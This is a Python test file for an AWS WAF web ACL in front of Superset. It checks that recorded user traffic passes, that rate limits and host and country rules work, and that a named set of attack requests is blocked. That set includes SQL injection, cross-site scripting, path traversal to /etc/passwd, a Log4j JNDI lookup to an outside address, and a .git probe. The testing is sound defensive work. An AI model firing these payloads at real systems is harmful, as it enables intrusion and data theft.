"""The synthesized web ACL, tried with what Superset's users and its attackers send."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from managed_rules import ANONYMOUS, BAD_REPUTATION, GROUPS, HOSTING, MOST_BODY
from web_acl import Request, WebAcl

HERE = Path(__file__).parent
SNAPSHOT = HERE.parents[2] / "main.tf.json-snapshots" / "superset-us-east-1.tf.json"
DOMAIN = "analytics.example.com"
HEADERS = {"host": DOMAIN, "user-agent": "Mozilla/5.0", "cookie": "session=.eJwlzj0OwjAMQOG7"}
FORM = {**HEADERS, "content-type": "application/x-www-form-urlencoded"}
JSON = {**HEADERS, "content-type": "application/json"}
HUGE = b'{"x": "' + b"a" * MOST_BODY + b'"}'

#: What people did with the running Superset; record.py writes it.
RECORDED = [
    Request(
        one["method"],
        one["path"],
        one["query"],
        one["headers"],
        base64.b64decode(one["body"]),
    )
    for one in json.loads((HERE / "requests.json").read_text())
]

#: By name; outside of where Superset saves or queries, and what is nobody's business anywhere.
ATTACKS = {
    "SQL in the login form": Request(
        "POST", "/login/", headers=FORM, body=b"username=admin'+or+'1'='1'--&password=x"
    ),
    "SQL in a query string": Request("GET", "/users/list/", "q=1'%20union%20select%201--", HEADERS),
    "SQL in a cookie": Request(
        "GET", "/login/", headers={**HEADERS, "cookie": "id=1' or '1'='1' --"}
    ),
    "markup in the login form": Request(
        "POST", "/login/", headers=FORM, body=b"username=%3Cscript%3Ealert(1)%3C/script%3E"
    ),
    "markup in a query string": Request(
        "GET", "/superset/welcome/", "next=%3Cscript%3Ealert(1)%3C/script%3E", HEADERS
    ),
    "markup in a query string of the API": Request(
        "GET", "/api/v1/dashboard/", "q=%3Cscript%3Ealert(1)%3C/script%3E", HEADERS
    ),
    "a path out of the folder": Request("GET", "/static/../../etc/passwd", headers=HEADERS),
    "a path in a query string": Request("GET", "/static/", "f=../../../etc/passwd", HEADERS),
    "a large body to the login form": Request("POST", "/login/", headers=FORM, body=HUGE),
    "a large body to a path that begins alike": Request(
        "POST", "/api/v1/chartsandmore/", headers=JSON, body=HUGE
    ),
    "a large body to a saving path in a folder": Request(
        "POST", "/login/api/v1/chart/", headers=JSON, body=HUGE
    ),
    "a long query string": Request("GET", "/login/", "x=" + "a" * 3000, HEADERS),
    "a long path": Request("GET", "/" + "a" * 1100, headers=HEADERS),
    "long cookies": Request("GET", "/", headers={**HEADERS, "cookie": "a=" + "a" * 11000}),
    "Log4j in a saving path's body": Request(
        "POST", "/api/v1/chart/data", headers=JSON, body=b'{"a": "${jndi:ldap://192.0.2.1/a}"}'
    ),
    "Log4j in a header": Request("GET", "/", headers={**HEADERS, "x-a": "${jndi:dns://a}"}),
    "a version control folder": Request("GET", "/.git/config", headers=HEADERS),
    "no user agent": Request("GET", "/", headers={"host": DOMAIN}),
    "an address of bad reputation": Request("GET", "/", headers=HEADERS, address=BAD_REPUTATION),
    "an anonymous address": Request("GET", "/", headers=HEADERS, address=ANONYMOUS),
}


def blocks(document: dict[str, Any]) -> dict[str, Any]:
    (acl,) = document["resource"]["aws_wafv2_web_acl"].values()
    return dict(acl)


@pytest.fixture
def acl() -> WebAcl:
    """Production's, with nothing asked of it yet."""
    return WebAcl(blocks(json.loads(SNAPSHOT.read_text())), GROUPS)


@pytest.fixture
def strict() -> WebAcl:
    """With every option; WebAclTest keeps the file."""
    return WebAcl(json.loads((HERE / "strict_acl.json").read_text()), GROUPS)


def named(request: Request) -> str:
    return f"{request.method} {request.path}"


@pytest.mark.parametrize("request_", RECORDED, ids=named)
def test_what_people_do_is_let_in(acl: WebAcl, request_: Request) -> None:
    decision = acl.decide(request_)
    assert decision.allowed, decision


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("PUT", "/api/v1/dashboard/"),
        ("PUT", "/api/v1/chart/"),
        ("PUT", "/api/v1/dataset/"),
        ("POST", "/api/v1/chart/data"),
        ("POST", "/api/v1/sqllab/execute/"),
        ("POST", "/api/v1/database/"),
        ("POST", "/login/"),
    ],
)
def test_the_recording_holds_what_matters(method: str, path: str) -> None:
    assert [one for one in RECORDED if one.method == method and one.path.startswith(path)]


def test_managed_rules_alone_would_stop_people_from_saving_and_querying(acl: WebAcl) -> None:
    """Or the exemption would be of no use, and the samples would show nothing."""
    found = {label.rpartition(":")[2] for one in RECORDED for label in acl.decide(one).labels}
    assert {"SizeRestrictions_Body", "SQLi_Body", "CrossSiteScripting_Body"} <= found


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_stopped(acl: WebAcl, name: str) -> None:
    decision = acl.decide(ATTACKS[name])
    assert (decision.allowed, decision.status) == (False, 403), decision


def test_an_attack_in_counting_mode_is_let_in_and_noted(strict: WebAcl) -> None:
    for name, attack in ATTACKS.items():
        decision = strict.decide(attack)
        assert decision.allowed, name
        assert decision.counted, name


def test_health_checks_come_from_anywhere_as_often_as_they_like(strict: WebAcl) -> None:
    check = Request("GET", "/health", headers={"host": "10.10.0.7"}, country="SG")
    for path in ("/health", "/fence/eu-west-1"):
        for _ in range(300):
            decision = strict.decide(replace(check, path=path, address=HOSTING))
            assert (decision.rule, decision.counted) == ("health", ())


def limited(acl: WebAcl, request: Request, most: int) -> int:
    """How many of these requests of one address are let in."""
    for number in range(most + 1):
        decision = acl.decide(request)
        if not decision.allowed:
            assert decision.status == 429
            return number
    return most + 1


@pytest.mark.parametrize(
    "path", ["/login/", "/login", "/%6cogin/", "/api/v1/security/login"], ids=str
)
def test_passwords_cannot_be_tried_for_long(acl: WebAcl, path: str) -> None:
    assert limited(acl, Request("POST", path, headers=FORM, body=b"username=a"), 200) == 100


def test_an_address_that_tries_passwords_goes_on_working_elsewhere(acl: WebAcl) -> None:
    limited(acl, Request("POST", "/login/", headers=FORM), 200)
    assert acl.decide(Request("GET", "/superset/welcome/", headers=HEADERS)).allowed
    other = Request("POST", "/login/", headers=FORM, address="198.51.100.8")
    assert acl.decide(other).allowed


def test_one_address_cannot_ask_without_end(acl: WebAcl) -> None:
    asked = Request("GET", "/static/a.css", headers=HEADERS)
    assert limited(acl, asked, 11000) == 10000


def test_clouds_are_let_in_or_not_as_configured(acl: WebAcl, strict: WebAcl) -> None:
    asked = Request("GET", "/api/v1/me/", headers=HEADERS, address=HOSTING)
    assert acl.decide(asked).allowed
    assert "AnonymousIpList/HostingProviderIPList" in strict.decide(asked).counted


@pytest.mark.parametrize(
    ("changed", "rule"),
    [
        ({"country": "SG"}, "countries"),
        ({"country": "NO"}, None),
        ({"headers": {**HEADERS, "host": "us-east-1.analytics.example.com"}}, "hosts"),
        ({"headers": {**HEADERS, "host": "ANALYTICS.example.com:443"}}, None),
        ({"headers": {**HEADERS, "host": "analyticsxexample.com"}}, "hosts"),
    ],
)
def test_countries_and_hosts(strict: WebAcl, changed: dict[str, Any], rule: str | None) -> None:
    asked = replace(Request("GET", "/superset/welcome/", headers=HEADERS), **changed)
    assert strict.decide(asked).counted == ((rule,) if rule else ())
